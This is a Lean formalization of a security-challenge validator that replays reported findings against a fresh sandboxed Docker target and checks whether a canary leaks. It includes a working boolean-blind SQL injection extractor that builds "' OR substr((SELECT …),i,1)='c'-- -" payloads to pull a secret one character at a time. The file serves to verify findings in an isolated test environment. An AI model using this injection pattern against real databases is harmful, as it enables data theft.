import TaoSubnet.Security.Challenge
import TaoSubnet.Security.Findings
import TaoSubnet.Security.Outside

/-!
# Replay

`secqurityVali/replay.py`: a fresh target with the same structure and a new canary, and the reported
requests made against it. The container name, the new canary and the free port are drawn outside
and come in as a `ReplaySeed`. Sleeping is left out.
-/

namespace TaoSubnet

open Py

structure ReplaySeed where
  canary : String
  name : String
  port : Nat

def JOB_TARGET_RUNTIME : String := "runsc"

variable {δ : Type} (o : Outside δ) (py : Interpreter)

/-! ## URLs -/

def isUnreserved (b : Nat) : Bool :=
  (48 ≤ b && b ≤ 57) || (65 ≤ b && b ≤ 90) || (97 ≤ b && b ≤ 122) || b == 95 || b == 46 || b == 45 ||
    b == 126

def percentByte (b : Nat) : PyStr :=
  let digit (d : Nat) : Nat := if d < 10 then 48 + d else 55 + d
  if isUnreserved b then [b] else if b = 32 then [43] else [37, digit (b / 16), digit (b % 16)]

/-- `urllib.parse.quote_plus`. -/
def quotePlus (s : PyStr) : Except Exc PyStr :=
  match s.mapM utf8Bytes with
  | some bytes => .ok (bytes.flatten.flatMap percentByte)
  | none => .error ⟨.unicodeEncodeError, "surrogates not allowed"⟩

/-- `urllib.parse.urlencode`. -/
def urlencode (query : List (PyStr × PyStr)) : Except Exc PyStr := do
  let parts ← query.mapM fun (k, v) => do
    return (← quotePlus k) ++ [61] ++ (← quotePlus v)
  return [38].intercalate parts

/-! ## Requests -/

def isInfixPy (needle haystack : PyStr) : Bool := haystack.tails.any fun t => needle.isPrefixOf t

/-- One step of `execute_reproduction`: did its response carry the canary? -/
def reproductionStep (baseUrl : PyStr) (canary : PyStr) (step : ReproStep) :
    Prog (World δ) Exc Bool := do
  let query ← Prog.ofExcept (urlencode step.query)
  let url := baseUrl ++ step.path
  Prog.tryExcept
    (do
      let response ← urlopen o
        (if step.method = PyStr.ofString "POST" then { url := url, data := some query }
          else { url := if query.isEmpty then url else url ++ [63] ++ query })
      return isInfixPy canary (Json.utf8Replace (response.body.map UInt8.toNat)))
    (fun _ => return false)

/-- The steps in order, up to the first that succeeds. -/
def reproductionSteps (baseUrl canary : PyStr) : List ReproStep → Prog (World δ) Exc Bool
  | [] => return false
  | step :: rest => do
    if ← reproductionStep o baseUrl canary step then return true
    reproductionSteps baseUrl canary rest

/-- `base_url.rstrip("/")`. -/
def rstripSlash (s : PyStr) : PyStr := (s.reverse.dropWhile (· == 47)).reverse

def executeReproduction (baseUrl : PyStr) (steps : List ReproStep) (expectedCanary : PyStr) :
    Prog (World δ) Exc Bool :=
  if steps.isEmpty || expectedCanary.isEmpty then return false
  else reproductionSteps o (rstripSlash baseUrl) expectedCanary steps

/-- `_wait_ready`. -/
def waitReady (baseUrl : PyStr) : (attempts : Nat) → Prog (World δ) Exc Bool
  | 0 => return false
  | n + 1 => do
    let ready ← Prog.tryExcept
      (do
        let response ← urlopen o { url := rstripSlash baseUrl ++ PyStr.ofString "/health" }
        return response.status == 200)
      (fun _ => return false)
    if ready then return true
    waitReady baseUrl n

/-! ## Boolean-blind extraction -/

/-- One question of `_boolean_extract`: a failed request is asked again, three times in all. -/
def btest (url : PyStr) : (attempts : Nat) → Prog (World δ) Exc Bool
  | 0 => return false
  | n + 1 => do
    let answer ← Prog.tryExcept
      (do
        let response ← urlopen o { url := url }
        match ← Prog.ofExcept (Json.loads py.recursionLimit response.body) with
        | .obj items => return some (((Json.get? items "found").map Json.truthy).getD false)
        | _ => Prog.raise ⟨.attributeError, "object has no attribute 'get'"⟩)
      (fun _ => return none)
    match answer with
    | some found => return found
    | none => btest url n

def HEX : List Char := "0123456789abcdef".toList

/-- The first hexadecimal digit the target confirms at a position. -/
def confirmedDigit (urlOf : Char → Except Exc PyStr) : List Char → Prog (World δ) Exc (Option Char)
  | [] => return none
  | c :: rest => do
    let url ← Prog.ofExcept (urlOf c)
    if ← btest o py url 3 then return some c
    confirmedDigit urlOf rest

/-- Positions `i`, `i + 1`, … up to `length` of them, until one has no digit. -/
def extractDigits (urlOf : Nat → Char → Except Exc PyStr) : (i length : Nat) →
    Prog (World δ) Exc (List Char)
  | _, 0 => return []
  | i, n + 1 => do
    match ← confirmedDigit o py (urlOf i) HEX with
    | none => return []
    | some c => return c :: (← extractDigits urlOf (i + 1) n)

/-- `_boolean_extract`. -/
def booleanExtract (baseUrl : PyStr) (endpoint param table column : String) (numeric : Bool) :
    Prog (World δ) Exc String := do
  let payloadPrefix := if numeric then "0 OR" else "zzz' OR"
  let subquery := "SELECT \"" ++ column ++ "\" FROM \"" ++ table ++ "\" LIMIT 1"
  let urlOf (i : Nat) (c : Char) : Except Exc PyStr := do
    let condition := "substr((" ++ subquery ++ ")," ++ toString i ++ ",1)='" ++ c.toString ++ "'"
    let payload := payloadPrefix ++ " (" ++ condition ++ ")-- -"
    let query ← urlencode [(PyStr.ofString param, PyStr.ofString payload)]
    return rstripSlash baseUrl ++ PyStr.ofString endpoint ++ [63] ++ query
  return String.ofList (← extractDigits o py urlOf 1 32)

/-! ## `run_replay` -/

def replayTargetArgs (seed : ReplaySeed) (challenge : Challenge) : List String :=
  ["run", "-d", "--name", seed.name, "-p",
    "127.0.0.1:" ++ toString seed.port ++ ":" ++ toString TARGET_PORT,
    "--runtime", JOB_TARGET_RUNTIME] ++ dockerEnvArgs challenge ++ [TARGET_IMAGE]

def rmContainerArgs (name : String) : List String := ["rm", "--force", "--volumes", name]

/-- What the fresh target says, once it was started. -/
def replayAgainst (seed : ReplaySeed) (challenge : Challenge) (steps : List ReproStep) :
    Prog (World δ) Exc Bool := do
  let base := PyStr.ofString ("http://127.0.0.1:" ++ toString seed.port)
  if !(← waitReady o base 30) then return false
  if challenge.variant.startsWith "boolean" then
    let extracted ← booleanExtract o py base challenge.vulnerableEndpoint
      challenge.vulnerableParameter challenge.secretTable challenge.secretColumn
      (challenge.variant.endsWith "numeric")
    return extracted == challenge.canary
  executeReproduction o base steps (PyStr.ofString challenge.canary)

/-- `run_replay`. What the body raises is a failed replay; what the removal of its container raises
    is not caught. -/
def runReplay (seed : ReplaySeed) (challenge : Challenge) (steps : List ReproStep) :
    Prog (World δ) Exc Bool :=
  if steps.isEmpty then return false
  else
    let replayChallenge := { challenge with canary := seed.canary }
    Prog.tryFinally
      (Prog.tryExcept
        (do
          let run ← docker o (replayTargetArgs seed replayChallenge)
          if run.returncode ≠ 0 then return false
          replayAgainst o py seed replayChallenge steps)
        (fun _ => return false))
      (do
        let _ ← docker o (rmContainerArgs seed.name)
        return ())

end TaoSubnet
